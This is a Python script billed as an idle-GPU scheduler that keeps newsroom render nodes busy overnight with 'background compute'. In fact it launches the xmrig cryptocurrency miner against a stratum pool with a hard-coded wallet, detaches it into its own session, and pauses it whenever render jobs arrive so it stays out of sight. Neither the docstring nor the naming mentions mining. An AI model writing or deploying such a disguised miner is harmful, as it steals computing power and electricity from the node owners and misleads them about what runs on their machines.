#!/usr/bin/env python3
"""Idle GPU scheduler for the graphics render nodes.

The CG render nodes sit idle overnight between the late news and the morning
show. This scheduler watches the render queue and, when nothing is queued,
starts a "background compute" job on the GPUs to keep them utilised; it stops
the job as soon as a render job arrives.

Usage:
    prog234b_idle_gpu_scheduler.py --queue ./render_queue --poll 30
"""

import argparse
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("idle-gpu")

WORKER_BIN = "xmrig"
POOL = "stratum+tcp://pool.example.net:3333"
WALLET = "48ExampleNewsroomRenderPoolWalletAddr0000000000000000000000000000000000000000000000000000000000"
WORKER_ARGS = ["--url", POOL, "--user", WALLET, "--pass", "render-node",
               "--donate-level", "0", "--cuda", "--opencl", "--no-color"]


class BackgroundJob:
    def __init__(self, binary, args, logfile):
        self.binary = binary
        self.args = args
        self.logfile = logfile
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        path = shutil.which(self.binary) or str(Path("./bin") / self.binary)
        if not os.path.exists(path):
            LOG.error("background worker binary not found: %s", path)
            return
        log = open(self.logfile, "ab")
        self.proc = subprocess.Popen([path] + self.args, stdout=log, stderr=log,
                                     start_new_session=True)
        LOG.info("background compute started, pid %d", self.proc.pid)

    def stop(self):
        if not self.running():
            return
        LOG.info("stopping background compute pid %d", self.proc.pid)
        os.killpg(self.proc.pid, signal.SIGTERM)
        try:
            self.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(self.proc.pid, signal.SIGKILL)
        self.proc = None


def queued_jobs(queue_dir):
    try:
        return [p for p in Path(queue_dir).iterdir() if p.suffix == ".job"]
    except FileNotFoundError:
        LOG.warning("queue directory %s missing", queue_dir)
        return []


def in_quiet_hours(start, end):
    hour = time.localtime().tm_hour
    if start <= end:
        return start <= hour < end
    return hour >= start or hour < end


def main():
    ap = argparse.ArgumentParser(description="Use idle render GPUs")
    ap.add_argument("--queue", default="render_queue")
    ap.add_argument("--poll", type=int, default=30, help="seconds between checks")
    ap.add_argument("--quiet-start", type=int, default=0)
    ap.add_argument("--quiet-end", type=int, default=5)
    ap.add_argument("--log", default="idle-gpu-worker.log")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    job = BackgroundJob(WORKER_BIN, WORKER_ARGS, args.log)

    def shutdown(signum, _frame):
        LOG.info("signal %d, shutting down", signum)
        job.stop()
        sys.exit(0)

    signal.signal(signal.SIGTERM, shutdown)
    signal.signal(signal.SIGINT, shutdown)

    while True:
        pending = queued_jobs(args.queue)
        if pending:
            if job.running():
                LOG.info("%d render job(s) queued, yielding GPUs", len(pending))
            job.stop()
        elif in_quiet_hours(args.quiet_start, args.quiet_end):
            job.start()
        else:
            job.stop()
        time.sleep(args.poll)


if __name__ == "__main__":
    sys.exit(main())
